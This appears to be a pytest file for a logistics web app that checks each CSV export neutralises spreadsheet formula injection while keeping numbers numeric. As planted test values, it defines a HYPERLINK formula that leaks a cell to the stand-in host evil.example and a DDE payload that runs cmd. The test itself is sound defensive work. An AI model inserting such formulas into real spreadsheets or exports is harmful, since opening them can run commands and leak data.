"""Every CSV export writes text a spreadsheet would run as a formula (=, +, -, @, tab, carriage return at the
start) with a quote in front, and numbers as numbers: a negative quantity stays -2, not '-2 (OWASP).

The exports are found in the URL map: a new one fails the test until it is in EXPORTS."""

import csv
import io
import json

from sqlmodel import select

from logistics.cli.telemetry import _export
from logistics.db.engine import unit_of_work
from logistics.db.models import Enrolment, ForecastRun, LaneLeg, Leg, Lot, Shipment, StorageZone
from tests.web.conftest import login
from tests.web.test_api import bearer

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
SHORT_LINK = '=HYPERLINK("//evil.example")'  # a reference holds at most 40 characters
CALC = "+cmd|' /C calc'!A0"
EXPORTS = {  # the route, and the cells (column: value) that the planted values must come out as
    "/shipments.csv": {"reference": "'" + SHORT_LINK},
    "/stock.csv": {"lot": "'" + CALC},
    "/stock/ledger.csv": {"note": "'" + LINK, "lot": "'" + CALC},
    "/recruitment/enrolments.csv": {"patient_code": "'-2+3"},
    "/forecast.csv": {"code": "'\tCRYO"},
    "/forecast/compare.csv": {"code": "'\tCRYO"},
    "/lots/<item>/<lot>/passport.csv": {"zone": "'" + CALC},
    "/audit.csv": {"record": "'" + SHORT_LINK, "new": "'" + CALC},
    "/lanes/<code>/analytics.csv": {"name": "'" + CALC},
    "/lanes.csv": {"leg_carrier": "'" + CALC},
    "/shipments/<reference>/import-papers.csv": {"invoice_number": "'" + CALC},
}
FETCHED = {"/lots/<item>/<lot>/passport.csv": "/lots/QC-ENDO/LAL-26-3341/passport.csv",  # in SIR-FRIDGE-1
           "/lanes/<code>/analytics.csv": "/lanes/SZ-HKG-BKK-PH/analytics.csv",  # HG-2026-0041 arrived
           "/shipments/<reference>/import-papers.csv": "/shipments/HG-2026-0045/import-papers.csv"}


def plant(app, token_for):
    """Hostile text where each export reads it: the consumption note through the API (the stock ledger is
    append-only), the rest stored directly, as values from before any check would be."""
    client = app.test_client()
    assert client.post("/api/v1/forecast", json={}, headers=bearer(token_for("logistics"))).status_code == 201
    taken = client.post("/api/v1/stock/consume", headers=bearer(token_for("pharmacy")), json={
        "site": "SIRIRAJ-PH", "item": "REF-CELL", "quantity": "2", "use": "run", "code": "RUN-7",
        "note": LINK})
    assert taken.status_code == 201, taken.get_data(as_text=True)
    runtime = app.extensions["logistics"]
    with unit_of_work(runtime.sessions, actor="test", reason="stored before exports were guarded") as s:
        s.exec(select(Shipment).where(Shipment.reference == "HG-2026-0048")).one().reference = SHORT_LINK
        s.exec(select(Lot).where(Lot.lot_number == "RC-2501")).one().lot_number = CALC
        s.exec(select(StorageZone).where(StorageZone.code == "SIR-FRIDGE-1")).one().code = CALC
        s.exec(select(Enrolment).where(Enrolment.patient_code == "TDT-001")).one().patient_code = "-2+3"
        arrived = s.exec(select(Shipment.id).where(Shipment.reference == "HG-2026-0041")).one()
        s.exec(select(Leg).where(Leg.shipment_id == arrived, Leg.sequence == 1)).one().carrier = CALC
        s.exec(select(LaneLeg).where(LaneLeg.sequence == 1)).first().carrier = CALC
        s.exec(select(Shipment).where(Shipment.reference == "HG-2026-0045")).one().invoice_number = CALC
        run = s.exec(select(ForecastRun)).one()
        result = json.loads(run.result)
        result["items"][0]["code"] = "\tCRYO"
        run.result = json.dumps(result)
        inputs = json.loads(run.inputs)  # the comparison computes again from the stored inputs
        inputs["items"][0]["code"] = "\tCRYO"
        run.inputs = json.dumps(inputs)


def test_every_csv_export_neutralises_formulas_and_keeps_numbers(app, token_for):
    routes = {rule.rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}
    assert routes == EXPORTS.keys(), "a CSV export this test does not check"
    plant(app, token_for)
    client = login(app.test_client(), "admin")
    for path, expected in EXPORTS.items():
        response = client.get(FETCHED.get(path, path))
        assert response.status_code == 200 and response.mimetype == "text/csv", path
        rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
        for column, value in expected.items():
            assert value in {row[column] for row in rows}, (path, column, [row[column] for row in rows])
        for row in rows:
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()
                           if cell and not _number(cell)), (path, row)
    ledger = list(csv.DictReader(io.StringIO(client.get("/stock/ledger.csv").get_data(as_text=True))))
    assert {row["quantity"] for row in ledger if row["note"] == "'" + LINK} == {"-2.0"}  # still a number
    stock = list(csv.DictReader(io.StringIO(client.get("/stock.csv").get_data(as_text=True))))
    assert {row["quantity"] for row in stock if row["lot"] == "'" + CALC} == {"4"}
    trail = list(csv.DictReader(io.StringIO(client.get("/audit.csv").get_data(as_text=True))))
    taken = [row for row in trail if row["kind"] == "stock_movements" and row["field"] == "quantity"]
    assert "-2" in {row["new"] for row in taken}  # a number, as it was recorded


def test_the_readings_export_of_the_command_line_neutralises_formulas_too():
    out = io.StringIO()
    _export([{"logger": "=LG-1", "device_time": None, "received_at": None, "temperature_c": -18.5,
              "shock_g": None, "humidity": None, "battery": None, "latitude": -13.7, "longitude": 100.5,
              "seq": 1, "source": "@mqtt", "time_flagged": False, "light_lux": None,
              "door_open": None}], "csv", out)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert (row["logger"], row["source"], row["temperature_c"], row["latitude"]) == ("'=LG-1", "'@mqtt",
                                                                                    "-18.5", "-13.7")


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
